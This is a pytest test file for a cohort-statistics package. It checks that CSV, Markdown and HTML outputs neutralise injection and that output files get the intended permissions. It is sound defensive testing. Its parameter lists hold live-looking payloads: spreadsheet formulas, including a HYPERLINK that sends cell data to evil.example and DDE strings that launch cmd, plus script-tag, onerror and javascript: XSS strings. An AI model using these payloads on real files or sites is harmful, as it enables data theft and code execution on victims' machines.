"""Outputs cannot attack their reader: no spreadsheet formula in a CSV cell, no markup from a label in Markdown,
and files readable by the group like any other file the user writes."""

from __future__ import annotations

import os
import re
import stat

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tkicohort.io import neutralise_formula, read_csv, write_bytes, write_csv, write_text
from tkicohort.stats.render import markdown_text, printed, to_html, to_markdown

ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
]


def _starts_a_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell, written independently of the code under test."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_are_written_as_text(tmp_path, attack):
    frame = pd.DataFrame({"label": ["safe", attack], "n": [1, 2]})
    write_csv(frame, tmp_path / "t.csv")
    back = read_csv(tmp_path / "t.csv", keep_default_na=False)
    assert back["label"].tolist() == ["safe", "'" + attack]
    assert back["n"].tolist() == [1, 2]


def test_numbers_and_numeric_columns_are_not_touched(tmp_path):
    frame = pd.DataFrame({"x": [-2.5, 3.0, np.nan], "text_number": ["-2.5", "+3", "1e-3"],
                          "dash": ["—", "a-b", "NR"]})
    write_csv(frame, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert text == "x,text_number,dash\n-2.5,-2.5,—\n3.0,+3,a-b\n,1e-3,NR\n"


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole(tmp_path):
    write_csv(pd.DataFrame({"label": ["\r=1+1", "a\r\nb"], "n": [1, 2]}), tmp_path / "t.csv")
    back = read_csv(tmp_path / "t.csv")
    assert back["label"].tolist() == ["'\n=1+1", "a\nb"] and back["n"].tolist() == [1, 2]


def test_formula_like_column_names_are_neutralised(tmp_path):
    write_csv(pd.DataFrame({"=cmd()": [1]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines()[0] == "'=cmd()"


@given(st.text(max_size=30))
def test_no_written_text_cell_starts_a_formula(value):
    out = neutralise_formula(value)
    assert not _starts_a_formula(out) or _is_plain_number(out)
    one_line = value.replace("\r\n", "\n").replace("\r", "\n")
    assert out in (one_line, "'" + one_line)


def _is_plain_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return value.strip() == value and not any(w in value.lower() for w in ("nan", "inf", "_"))


@pytest.mark.parametrize("label", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                                   "[click](javascript:alert(1))", "![x](http://evil.example/x.png)",
                                   "a | b", "**bold** `code` _x_", "line\nbreak"])
def test_markdown_cells_carry_no_markup(label):
    md = to_markdown(pd.DataFrame({"Level": [label]}), f"Title {label}")
    assert re.search(r"<[A-Za-z/!?]", md) is None, md
    cell = md.splitlines()[-1][2:-2]
    unescaped = cell.replace("\\\\", "").replace("\\", "\0")  # mark each escaped character
    for ch in "|`*_[]!":
        assert all(unescaped[i - 1] == "\0" for i, c in enumerate(unescaped) if c == ch), (ch, cell)


def test_markdown_keeps_ordinary_journal_text_readable():
    assert markdown_text("9.5 (7.1–12.0)") == "9.5 (7.1–12.0)"
    assert markdown_text("≥ 55") == "≥ 55"
    assert markdown_text("<0.001") == "<0.001"
    assert markdown_text("0 to < 6 months") == "0 to < 6 months"
    assert markdown_text("R&D &amp; co") == "R&D &amp;amp; co"


def test_html_tables_escape_labels():
    table = pd.DataFrame({"variable": ["sex", "sex"], "label": ["<script>x</script>"] * 2, "level": ["F", "M"],
                          "level_label": ["<b>F</b>", "M"], "arm": ["all"] * 2, "n": [1, 0], "denominator": [1, 1],
                          "pct": [100.0, 0.0], "missing": [0, 0], "test": [None] * 2, "p": [np.nan] * 2})
    page = to_html(printed("baseline", table, "Baseline <i>"))
    assert "<script>" not in page and "<b>F</b>" not in page and "Baseline <i>" not in page
    assert "&lt;script&gt;x&lt;/script&gt;" in page and "&lt;b&gt;F&lt;/b&gt;" in page


@pytest.mark.parametrize("writer", [
    lambda p: write_csv(pd.DataFrame({"a": [1]}), p),
    lambda p: write_text("x", p),
    lambda p: write_bytes(b"x", p),
])
def test_outputs_are_readable_by_the_group(tmp_path, writer):
    old = os.umask(0o022)
    try:
        writer(tmp_path / "out")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o644
